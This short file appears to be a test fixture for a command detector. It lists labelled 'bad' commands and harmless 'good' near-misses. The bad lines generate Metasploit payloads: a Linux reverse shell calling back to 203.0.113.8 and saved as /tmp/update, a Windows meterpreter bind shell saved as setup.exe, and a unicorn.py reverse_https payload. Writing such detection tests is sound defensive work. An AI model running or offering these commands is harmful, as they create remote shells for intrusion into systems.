# bad: a program that connects back
msfvenom -p linux/x64/shell_reverse_tcp LHOST=203.0.113.8 LPORT=8443 -f elf -o /tmp/update
#<^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
# bad: through a wrapper
sudo nice msfvenom --payload windows/meterpreter/bind_tcp --format exe > setup.exe
# bad: through an interpreter
python3 /opt/unicorn/unicorn.py windows/meterpreter/reverse_https 203.0.113.8 443
# good: nearly: what there is
msfvenom --list payloads
# good: nearly: help
msfvenom --help
# good: a page about it
grep -rn msfvenom docs/
# good: a doughnut of another kind
donut --sprinkles --count 12
